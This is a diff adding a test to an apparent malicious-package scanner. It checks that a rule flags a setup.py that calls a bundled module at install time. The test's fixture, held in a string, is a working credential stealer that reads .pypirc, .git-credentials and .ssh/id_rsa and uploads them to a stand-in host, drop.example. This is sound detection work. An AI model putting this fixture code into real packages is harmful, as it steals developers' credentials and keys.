@@ -107,3 +107,32 @@ def test_setup_calling_package_code_that_installs_a_launch_agent_flags(engine: E
 def test_a_launch_agent_that_setup_never_reaches_is_not_install_time(engine: Engine) -> None:
     archive = _with_agent("from .agent import keep_running\n\ndef hello():\n    return 'hi'\n")
     assert run_rule(engine, setup_runs_package_code_rule, archive) is None
+
+
+def test_setup_calling_a_module_that_uploads_the_credential_files_it_lists(
+    engine: Engine,
+) -> None:
+    """``from pkg import _bk; _bk.ship()`` from an install command: the module's list of
+    credential files sits in a constant, not on the lines ``ship`` runs."""
+    backup = (
+        "import os, urllib.request\n"
+        "TARGETS = ['.pypirc', '.git-credentials', '.ssh/id_rsa']\n\n"
+        "def ship():\n"
+        "    home = os.path.expanduser('~')\n"
+        "    data = b''.join(open(os.path.join(home, t), 'rb').read() for t in TARGETS)\n"
+        "    urllib.request.urlopen('https://drop.example/up', data=data)\n"
+    )
+    setup_py = HOOKED_SETUP.replace(
+        "from tidy_strings import hello\n        hello()",
+        "from tidy_strings import _bk\n        _bk.ship()",
+    )
+    archive = sdist(
+        {"tidy_strings/__init__.py": "", "tidy_strings/_bk.py": backup}, setup_py=setup_py
+    )
+    evidence = run_rule(engine, setup_runs_package_code_rule, archive)
+    assert {call["type"] for call in evidence[0]["calls"]} == {"network", "harvest"}
+    # the same module, never called from setup.py
+    quiet = sdist(
+        {"tidy_strings/__init__.py": "", "tidy_strings/_bk.py": backup}, setup_py=HOOKED_SETUP
+    )
+    assert run_rule(engine, setup_runs_package_code_rule, quiet) is None
